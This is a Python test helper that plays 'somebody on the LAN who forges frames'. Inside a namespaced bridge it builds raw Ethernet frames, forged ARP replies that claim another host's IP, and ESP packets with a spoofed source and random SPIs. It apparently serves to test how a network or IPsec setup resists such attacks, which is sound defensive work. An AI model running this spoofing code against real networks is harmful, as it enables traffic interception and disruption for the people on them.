"""Somebody on the LAN who forges frames."""

import random
import struct

from machine import BRIDGE, in_namespace

MAC = "02:00:00:00:66:66"
SEND = ("import socket, sys; line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); line.bind((sys.argv[1], 0)); "
        "[line.send(bytes.fromhex(frame)) for frame in sys.stdin.read().split()]")


def claim(machine, ip):
    """Tells `machine` by ARP that the attacker has the address `ip`."""
    answer = bytes.fromhex("0001080006040002") + mac_bytes(MAC) + ip_bytes(ip)
    send([frame(machine, 0x0806, answer + mac_bytes(machine.mac) + ip_bytes(machine.ip))])


def send_esp(machine, source, count):
    """Sends `machine` so many packets of ESP in the name of `source`, each under an SPI that is made up."""
    send([frame(machine, 0x0800, esp(machine, source)) for _ in range(count)])


def esp(machine, source):
    payload = struct.pack("!II", random.randrange(256, 1 << 32), 1) + random.randbytes(64)
    fields = [0x45, 0, 20 + len(payload), 0, 0x4000, 64, 50, 0, ip_bytes(source.ip), ip_bytes(machine.ip)]
    fields[7] = checksum(struct.pack("!BBHHHBBH4s4s", *fields))
    return struct.pack("!BBHHHBBH4s4s", *fields) + payload


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    return 0xffff - (total % 0xffff)


def frame(machine, ether_type, payload):
    return (mac_bytes(machine.mac) + mac_bytes(MAC) + struct.pack("!H", ether_type) + payload).ljust(60, b"\0")


def send(frames):
    in_namespace("/usr/bin/python3", "-c", SEND, BRIDGE, given="\n".join(frame.hex() for frame in frames))


def mac_bytes(mac):
    return bytes.fromhex(mac.replace(":", ""))


def ip_bytes(ip):
    return bytes(int(part) for part in ip.split("."))
